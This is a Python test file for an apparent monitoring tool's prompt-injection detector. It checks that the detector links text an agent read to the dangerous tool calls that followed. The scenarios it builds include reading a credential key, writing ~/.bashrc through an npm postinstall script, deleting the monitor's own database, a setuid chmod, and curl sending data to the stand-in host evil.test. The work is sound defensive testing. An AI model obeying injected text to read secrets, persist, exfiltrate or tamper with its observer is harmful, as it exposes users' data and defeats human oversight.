"""A text that drives a dangerous effect is told with the path between them; honest look-alikes are not."""

from __future__ import annotations

from typing import Any

import pytest

from polygraph import events as e
from polygraph.findings import Finding, detectors
from tests.correlator.detectors.test_unexplained import KEY, Story, kinds

BASHRC = "/home/u/.bashrc"


def page(story: Story, kind: str = "fetch") -> e.Intent:
    """A text comes in."""
    if kind == "fetch":
        intent = story.intent("fetch", tool="web_fetch", hosts=("docs.test",))
    elif kind == "read":
        intent = story.intent("read", tool="read_file", files=(e.ExpectedFile(path="README.md", op="read"),))
    elif kind == "mcp":
        intent = story.intent("other", tool="mcp__issues__get", hand_off="mcp server")
    else:
        return story.does(*kind.split())
    story.answers(intent)
    story.tick()
    return intent


def driven(
    story: Story, text: e.Intent, what: str, value: str, *argv: str, command: bool = False
) -> tuple[e.Intent, str]:
    """The next answer has a tool call that carries what the text named: the call and its process."""
    said = story.now
    intent = story.asks(" ".join(argv))
    if command:
        story.mentions("command", intent.command_digest or "", "result", text, said_ts=said)
    else:
        story.mentions(what, value, "result", text, said_ts=said)
        story.mentions(what, value, "intent", intent)
    return intent, story.program(story.shell(intent), *argv)


def found(story: Story) -> list[Finding]:
    """What the detector found."""
    return [finding for finding in story.findings() if finding.detector == "injection"]


@pytest.mark.parametrize("kind", ["fetch", "read", "mcp", "cat README.md", "curl https://docs.test"])
def test_a_text_that_has_a_credential_read_is_told_with_the_path(kind: str) -> None:
    story = Story()
    text = page(story, kind)
    intent, process = driven(story, text, "path", KEY, "cat", KEY)
    story.secret(process)
    story.over(intent)
    (finding,) = found(story)
    assert (finding.kind, finding.window.close) == ("credential_read", finding.ts)
    assert [step.id for step in finding.path][:3] == [text.intent, intent.call, intent.intent]
    assert [step.grade for step in finding.path] == [None, "strong", "strong", "exact", "exact"]
    assert [step.what for step in finding.path][1:] == [
        "a model was asked with it",
        "the answer asked to run cat, with the path",
        f"cat {KEY} was executed",
        f"read {KEY}",
    ]
    assert finding.summary.startswith(f"read {KEY}, as a text asked for that came with “")
    assert kinds(story) == []  # the tool call names it, so it is no unexplained effect


def test_a_command_that_stood_in_the_text_drives_whatever_it_does() -> None:
    story = Story()
    text = page(story)
    intent, process = driven(story, text, "", "", "npm", "install", command=True)
    story.file(story.program(process, "node", "postinstall.js"), "write", BASHRC)
    story.over(intent)
    (finding,) = found(story)
    assert finding.kind == "persistence" and finding.path[2].grade == "exact"


@pytest.mark.parametrize(
    ("kind", "path", "op", "how"),
    [
        ("persistence", BASHRC, "write", {}),
        ("outside_write", "/opt/x", "create", {}),
        ("observer_tampering", "/home/u/.local/state/polygraph/polygraph.db", "unlink", {}),
        ("privilege", "/repo/tool", "chmod", {"mode": 0o4755}),
    ],
)
def test_each_kind_of_write(kind: str, path: str, op: str, how: dict[str, Any]) -> None:
    story = Story()
    intent, process = driven(story, page(story), "path", path, "tee", path)
    story.file(process, op, path, **how)
    story.over(intent)
    assert [finding.kind for finding in found(story)] == [kind]


@pytest.mark.parametrize(("sent", "seen"), [(20_000, ["unknown_host"]), (900, [])])
def test_to_send_to_a_host_of_the_text_is_told_and_to_fetch_from_it_is_what_texts_are_for(
    sent: int, seen: list[str]
) -> None:
    story = Story()
    intent, process = driven(story, page(story), "host", "evil.test", "curl", "https://evil.test")
    story.reaches(process, sent=sent)
    story.over(intent)
    assert [finding.kind for finding in found(story)] == seen
    assert all(finding.figures == {"sent": sent} for finding in found(story))


# --- the honest ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("origin", ["instructions", "configuration"])
def test_what_the_user_names_is_the_users_wish(origin: str) -> None:
    story = Story()
    story.mentions("path", BASHRC, origin, whole=False)
    intent, process = driven(story, page(story), "path", BASHRC, "tee", BASHRC)
    story.file(process, "write", BASHRC)
    story.over(intent)
    assert found(story) == []


@pytest.mark.parametrize("origin", ["answer", "intent"])
def test_what_the_model_named_before_the_text_is_its_own_idea(origin: str) -> None:
    story = Story()
    looked = story.does("ls", "/home/u")
    story.mentions("path", BASHRC, origin, looked if origin == "intent" else None)
    intent, process = driven(story, page(story), "path", BASHRC, "tee", BASHRC)
    story.file(process, "write", BASHRC)
    story.over(intent)
    assert found(story) == []


def test_a_text_that_has_the_agent_install_packages_is_honest() -> None:
    story = Story()
    intent, process = driven(story, page(story, "read"), "", "", "npm", "install", command=True)
    story.file(process, "create", "/home/u/.npm/_cacache/x")
    story.file(process, "create", "/repo/node_modules/x/index.js")
    story.reaches(process, name="registry.npmjs.org", sent=90_000)
    story.over(intent)
    assert found(story) == [] and kinds(story) == []


def test_a_listing_of_files_that_are_edited_in_the_workspace_is_honest() -> None:
    story = Story()
    intent, process = driven(story, page(story, "read"), "path", "/repo/src/a.py", "tee", "/repo/src/a.py")
    story.file(process, "write", "/repo/src/a.py")
    story.over(intent)
    assert found(story) == []


@pytest.mark.parametrize("listing", ["ls -la /home/u", "find /home/u", "pytest", "nvm install 22"])
def test_the_output_of_what_was_asked_for_is_no_text_from_elsewhere(listing: str) -> None:
    story = Story()
    intent, process = driven(story, page(story, listing), "path", BASHRC, "tee", BASHRC)
    story.file(process, "write", BASHRC)
    story.over(intent)
    assert found(story) == []


def test_a_file_of_the_workspace_may_name_places_and_hosts_outside() -> None:
    story = Story()
    intent, process = driven(story, page(story, "read"), "path", "/opt/x", "tee", "/opt/x")
    story.file(process, "create", "/opt/x")
    story.over(intent)
    assert found(story) == []


def test_a_credential_of_the_project_is_its_configuration() -> None:
    story = Story()
    intent, process = driven(story, page(story, "read"), "path", "/repo/.env", "cat", "/repo/.env")
    story.secret(process, "/repo/.env", "dotenv")
    story.over(intent)
    assert found(story) == []


def test_only_the_name_of_a_file_in_a_text_is_too_little() -> None:
    story = Story()
    text = page(story)
    said = story.now
    intent = story.asks(f"cat {KEY}")
    story.mentions("path", KEY, "result", text, said_ts=said, whole=False)
    story.mentions("path", KEY, "intent", intent)
    story.secret(story.program(story.shell(intent), "cat", KEY))
    story.over(intent)
    assert found(story) == []


def test_an_effect_of_another_tool_call_is_not_driven() -> None:
    story = Story()
    intent, _ = driven(story, page(story), "path", BASHRC, "cat", BASHRC)
    story.over(intent)
    other = story.asks("sh setup.sh")
    story.file(story.program(story.shell(other), "sh", "setup.sh"), "write", BASHRC)
    story.over(other)
    assert found(story) == []


def test_a_model_that_was_not_shown_the_text_is_not_driven_by_it() -> None:
    story = Story()
    text = page(story)
    intent = story.asks(f"cat {KEY}")
    story.mentions(
        "path", KEY, "result", text, said_ts=intent.ts - 1_000_000
    )  # after the request of that answer
    story.mentions("path", KEY, "intent", intent)
    story.secret(story.program(story.shell(intent), "cat", KEY))
    story.over(intent)
    assert found(story) == []


def test_the_kinds_are_those_of_dangers_but_tests() -> None:
    assert {*detectors()["injection"].kinds, "test_tampering"} == {*detectors()["unexplained_effect"].kinds}
